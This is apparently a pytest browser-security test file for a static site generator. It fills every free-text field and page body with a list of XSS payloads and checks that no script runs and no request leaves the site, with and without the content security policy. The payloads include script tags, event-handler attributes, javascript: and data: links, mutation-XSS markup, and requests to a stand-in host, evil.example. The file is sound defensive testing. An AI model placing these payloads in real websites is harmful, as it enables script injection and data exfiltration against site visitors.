"""
What is made to run does not: a browser opens pages full of vectors, with the site's own policy and without it.

The pages are made by the generator with its refusals taken away, so that what is tried is what would stand behind them
if one failed. Every field that takes free words holds a vector, of every kind of record; so do bodies and links.
"""

from __future__ import annotations

import copy
import json
import shutil
from collections.abc import Iterator, Mapping
from datetime import date
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from urllib.parse import quote

import pytest

from generator import pipeline, prose
from generator.front_matter import file_text
from generator.output import write_site
from generator.pipeline import OWN_CONTENT, Counter, Order, Plan, understand
from generator.records import RECORD_TYPES, validate_record
from generator.screening import Screened
from generator.sources import Document, Source, parse_document

TODAY = date(2027, 1, 15)
RAN = "console.log('ran')"
FIELD_VECTORS = (
    f"<script>{RAN}</script>",
    f"</script><script>{RAN}</script>",
    f'"><img src=x onerror={RAN}>',
    f"'><svg onload={RAN}>",
    f"</title><svg/onload={RAN}>",
    f'" autofocus onfocus={RAN} x="',
    f"<!--><img src=x onerror={RAN}>",
    f"{{{{{RAN}}}}} {{% raw %}}<i>",
    f"`${{{RAN}}}`",
    f"javascript:{RAN}",
    "<img src=https://evil.example/a>",
    "<base href=https://evil.example/>",
    "]]><a xmlns='http://www.w3.org/1999/xhtml' id='x'/>",
    "&lt;script&gt;console.log('ran')&lt;/script&gt;",
    "__proto__",
    "constructor",
)
BODY_VECTORS = (
    f"<script>{RAN}</script>",
    f"<img src=x onerror={RAN}>",
    f"<svg/onload={RAN}>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror={RAN}>'>",
    f"<iframe srcdoc='<script>parent.{RAN}</script>'></iframe>",
    "<form action=//evil.example><input name=phone autofocus></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    f"<a href=x onmouseover={RAN}>over</a>",
    f"<details open ontoggle={RAN}>",
    f"<video><source onerror={RAN}></video>",
    f"[one](javascript:{quote(RAN)})",
    f"[two](JaVa&#115;cript:{RAN})",
    f"[three](data:text/html,<script>{RAN}</script>)",
    f"[four](\u3000javascript:{quote(RAN)})",
    "![pixel](https://evil.example/pixel.png)",
    f'[five](https://example.org "a\\" onmouseover=\\"{RAN}")',
    f"# six {{: onclick={RAN} id=main }}",
    f"## </h2><script>{RAN}</script>",
    f"```html\n<script>{RAN}</script>\n```",
    f"`<script>{RAN}</script>`",
    f"a | <img src=x onerror={RAN}>\n--|--\n<svg onload={RAN}> | b",
    f"[seven][x]\n\n[x]: javascript:{quote(RAN)}",
    f"<javascript:{RAN}>",
    "\n".join(f"## {name}" for name in ("search", "main", "body", "cookie", "location", "__proto__")),
)

NAMES_OF_OTHERS = frozenset(
    "consent formerly related career ambassadors claims events organisations successor website link venue".split()
)
"""Fields that name another file, or what must be there for a page to be published."""


def places(value: Any, place: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    if isinstance(value, str):
        yield place
    else:
        for name, each in value.items() if isinstance(value, Mapping) else enumerate(value):
            yield from places(each, (*place, name))


def put(values: Any, place: tuple[Any, ...], text: str) -> None:
    for part in place[:-1]:
        values = values[part]
    values[place[-1]] = text


def example(collection: str) -> Document:
    path = OWN_CONTENT / collection / "_example.md"
    parsed = parse_document(
        Source(f"content/{collection}/_example.md", collection, "example", path.read_bytes())
    )
    assert isinstance(parsed, Document)
    return parsed


def filled(collection: str, vector: str, context: Mapping[str, Any]) -> tuple[dict[str, Any], set[str]]:
    """The example of a kind, with a vector in every field that takes it; and which fields these are."""
    start = example(collection)
    values: Any = copy.deepcopy(dict(start.values))
    taken = set()
    for name in ("photo", "photo_alt", "write_up", "formerly"):
        values.pop(name, None)
    for place in [
        each for each in places(values) if each[-1] not in NAMES_OF_OTHERS and each[0] not in NAMES_OF_OTHERS
    ]:
        tried = copy.deepcopy(values)
        put(tried, place, vector)
        record, problems = validate_record(
            Document(start.path, collection, "vector", tried, {}, "", 1), context
        )
        if record and not problems:
            values = tried
            taken.add(str(place[0]))
    return values, taken


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, set[str]]:
    """A site full of vectors, and the addresses of the pages that are full of them."""
    work = tmp_path_factory.mktemp("hostile")
    content = Path(shutil.copytree(OWN_CONTENT, work / "content"))
    own = understand(Order(today=TODAY))
    context = {"vocabularies": own.site.vocabularies, "time_zone": own.site.settings.time_zone}
    addresses: set[str] = set()
    taken: dict[str, set[str]] = {collection: set() for collection in RECORD_TYPES}
    slugs = []
    for collection in RECORD_TYPES:
        for number, vector in enumerate(FIELD_VECTORS):
            values, fields = filled(collection, vector, context)
            taken[collection] |= fields
            slug = f"vector-{number}"
            if collection == "events":
                slug = f"{str(values['starts'])[:10]}-{slug}"
            if collection == "ambassadors":
                slugs.append(slug)
            bodies = BODY_VECTORS[number :: len(FIELD_VECTORS)]
            (content / collection / f"{slug}.md").write_text(file_text(values, "\n\n".join(bodies)), "utf-8")
            addresses.add(f"/{slug}/" if collection == "pages" else f"/{collection}/{slug}/")
    with (content / "register/verification.yml").open("a", encoding="utf-8") as register:
        register.writelines(f"{slug}:\n  active: yes\n" for slug in slugs)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(prose, "check_body", lambda *_, **__: iter(()))
        patch.setattr(prose._Links, "resolve", lambda self, written, title: (written, True))
        patch.setattr(prose, "host_of", lambda address: address)
        patch.setattr(pipeline, "screen", lambda *_, **__: Screened((), frozenset()))
        order = Order(content=content, today=TODAY, base_url="https://example.org/")
        found = understand(order)
        write_site(Plan(found, order).outputs(Counter()), work / "site")
    assert [str(each) for each in found.problems if "would not be shown" not in each.message] == []
    # The fields that take the vectors are most of those that take free words at all.
    assert {"name", "job_title", "summary", "what_i_do", "route", "employer", "advice"} <= taken[
        "ambassadors"
    ]
    assert {"title", "summary", "cost", "place", "access", "series"} <= taken["events"]
    assert {"title", "summary", "author"} <= taken["case-studies"]
    assert {"title", "summary", "what_you_do", "entry_routes"} <= taken["careers"]
    assert {"name"} <= taken["organisations"]
    return work / "site", addresses


@pytest.fixture(params=["with the policy", "without the policy"])
def opened(
    request: pytest.FixtureRequest, browser: Any, serving: Any, hostile: tuple[Path, set[str]]
) -> Iterator[Any]:
    """A page in a browser on the hostile site; whatever runs, or leaves the site, fails the test when it ends."""
    ran: list[str] = []
    with serving(SimpleNamespace(folder=hostile[0], base_path="/")) as served:
        context = browser.new_context(bypass_csp="without" in request.param, service_workers="block")
        page = context.new_page()

        def on_dialog(dialog: Any) -> None:
            ran.append(f"{page.url}: a dialog")
            dialog.dismiss()

        def on_console(said: Any) -> None:
            if said.text == "ran":
                ran.append(f"{page.url}: it ran")

        def on_request(asked: Any) -> None:
            if not asked.url.startswith((served.origin, "data:", "blob:")):
                ran.append(f"{page.url} asks for {asked.url}")

        page.on("dialog", on_dialog)
        page.on("console", on_console)
        page.on("request", on_request)
        yield page, served, ran
        context.close()
    assert ran == []


PROVOKED = """() => {
    for (const each of document.querySelectorAll('*')) {
        for (const name of ['mouseover', 'focus', 'toggle', 'error', 'load']) each.dispatchEvent(new Event(name));
    }
    for (const link of document.querySelectorAll('main a[href*="script:"], main a[href^="data:"]')) link.click();
    return [...document.querySelectorAll('*')].flatMap(each =>
        [...each.attributes].filter(one => /^(on|style$|srcdoc$)/.test(one.name)).map(one => each.outerHTML.slice(0, 200)));
}"""


def test_no_page_of_a_record_runs_what_its_texts_hold(opened: Any, hostile: tuple[Path, set[str]]) -> None:
    page, served, _ = opened
    for address in sorted(hostile[1]):
        answer = page.goto(served.url(address))
        assert answer.status == 200, address
        assert page.evaluate(PROVOKED) == [], address
        for text in page.locator('script[type="application/ld+json"]').all_text_contents():
            json.loads(text)


def test_no_list_feed_or_data_runs_what_it_holds(opened: Any) -> None:
    page, served, _ = opened
    for address in ("/", "/ambassadors/", "/events/", "/events/past/", "/case-studies/", "/careers/", "/organisations/", "/my-list/",
                    "/networks/", "/areas/", "/404.html"):  # fmt: skip
        page.goto(served.url(address), wait_until="networkidle")
        assert page.evaluate(PROVOKED) == [], address
    for address in ("/events/feed.xml", "/case-studies/feed.xml", "/data/ambassadors.json", "/sitemap.xml"):
        page.goto(served.url(address))


def test_neither_the_address_nor_the_search_box_runs_what_is_typed(opened: Any) -> None:
    page, served, _ = opened
    for vector in FIELD_VECTORS:
        page.goto(served.url(f"/search/?q={quote(vector)}#{quote(vector)}"))
    page.goto(served.url("/ambassadors/"), wait_until="networkidle")
    box = page.locator("input[type=search]").last
    for vector in FIELD_VECTORS:
        box.fill(f"vector {vector}")
        page.wait_for_timeout(150)
    assert page.evaluate(PROVOKED) == []


@pytest.mark.parametrize("form", ["/volunteer/", "/events/submit/"])
def test_the_form_runs_nothing_that_is_typed_into_it(opened: Any, form: str) -> None:
    page, served, _ = opened
    page.goto(served.url(form), wait_until="networkidle")
    fields = page.locator("main form input[type=text]:visible, main form textarea:visible")
    for number in range(fields.count()):
        fields.nth(number).fill(FIELD_VECTORS[number % 7])
    assert fields.count()
    assert page.evaluate(PROVOKED) == []


@pytest.mark.parametrize("how", ["script", "image"])
def test_the_watch_sees_what_runs(opened: Any, how: str) -> None:
    page, served, ran = opened
    page.goto(served.url("/"))
    if how == "script":
        page.evaluate("() => console.log('ran')")
    else:
        page.evaluate("() => { new Image().src = 'https://evil.example/a'; }")
        page.wait_for_timeout(300)
    assert ran
    ran.clear()
